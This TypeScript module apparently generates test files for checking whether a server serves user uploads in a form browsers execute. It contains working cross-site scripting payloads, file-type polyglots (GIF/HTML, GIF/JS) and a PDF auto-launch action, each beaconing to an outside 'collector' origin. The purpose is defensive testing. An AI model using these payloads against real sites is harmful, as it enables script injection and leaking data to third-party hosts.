/** A file that wants its script to be run by whoever opens it. */
export interface HostileFile {
  fileName: string;
  /** What its uploader claims, which for some is not what it is. */
  mimeType: string;
  bytes: Buffer;
  /** The type under which a careless server would give it out; null: this browser runs nothing in it whatever it is called. */
  dangerousAs: string | null;
}

/** Says `ran:<name> at <origin>` in the console, and tells its title, its own server and somebody else's. */
const script = (name: string, collector: string): string =>
  [
    `console.log('ran:${name} at '+self.origin)`,
    `try{document.title='ran:${name}';document.cookie='ran=${name};path=/'}catch(e){}`,
    `try{new Image().src='${collector}/ran/${name}?'+self.origin}catch(e){}`,
    `try{navigator.sendBeacon('${collector}/ran/${name}?'+self.origin)}catch(e){}`,
    `try{fetch('/ran/${name}').catch(function(){})}catch(e){}`,
    `try{fetch('${collector}/ran/${name}?'+self.origin,{mode:'no-cors'}).catch(function(){})}catch(e){}`,
  ].join(';');

/** One of every kind we know of. @param collector origin that hears of scripts that ran. */
export function hostileFiles(collector: string): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (
    fileName: string,
    [mimeType, dangerousAs]: [string, string | null],
    write: (js: string, quoted: string) => string,
  ): void => {
    const js = script(fileName, collector);
    const quoted = js.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    files.push({ fileName, mimeType, dangerousAs, bytes: Buffer.from(write(js, quoted), 'latin1') });
  };
  const page = (js: string, quoted: string): string =>
    `<!DOCTYPE html><title>x</title><script>${js}</script><img src="/nothing" onerror="${quoted}"><svg onload="${quoted}"></svg>` +
    `<iframe srcdoc="<script>parent.${'eval'}('')</script>"></iframe><iframe src="javascript:${quoted}"></iframe>`;

  add('page.html', ['text/html', 'text/html'], page);
  add('typed.html', ['text/html; charset=utf-8', 'text/html; charset=utf-8'], page);
  add(
    'page.xhtml',
    ['application/xhtml+xml', 'application/xhtml+xml'],
    (js) =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script><![CDATA[${js}]]></script></head><body/></html>`,
  );
  add(
    'drawing.svg',
    ['image/svg+xml', 'image/svg+xml'],
    (js, quoted) =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script><![CDATA[${js}]]></script></svg>`,
  );
  add(
    'script.xml',
    ['application/xml', 'application/xml'],
    (js) => `<?xml version="1.0"?><r xmlns:h="http://www.w3.org/1999/xhtml"><h:script><![CDATA[${js}]]></h:script></r>`,
  );
  add(
    'styled.xml',
    ['text/xml', 'text/xml'],
    (js) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE r [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><r>` +
      `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>` +
      `<xsl:text disable-output-escaping="yes"><![CDATA[${js}]]></xsl:text></script></html></xsl:template></xsl:stylesheet>` +
      `<h:script xmlns:h="http://www.w3.org/1999/xhtml"><![CDATA[${js}]]></h:script></r>`,
  );
  // A browser without a viewer for it saves it, whatever it is called.
  add(
    'document.pdf',
    ['application/pdf', null],
    () =>
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(' +
      `app.launchURL\\("${collector}/ran/document.pdf"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
      'trailer<</Root 1 0 R>>\n%%EOF\n',
  );
  add('page.gif', ['image/gif', 'text/html'], (js, quoted) => `GIF89a\x01\x00\x01\x00\x00\x00\x00;${page(js, quoted)}`);
  add('page.png', ['image/png', 'text/html'], page);
  add('notes.txt', ['text/plain', 'text/html'], page);
  add('readme.md', ['text/markdown', 'text/html'], page);
  add('table.csv', ['text/csv', 'text/html'], page);
  add('data.json', ['application/json', 'text/html'], (js, quoted) =>
    JSON.stringify({ name: page(js, quoted) }).replaceAll('\\"', "'"),
  );
  add('code.js', ['text/javascript', 'text/javascript'], (js) => js);
  add('code.gif', ['image/gif', 'text/javascript'], (js) => `GIF89a=0;${js}`);
  add('code.txt', ['text/plain', 'text/javascript'], (js) => js);
  return files;
}
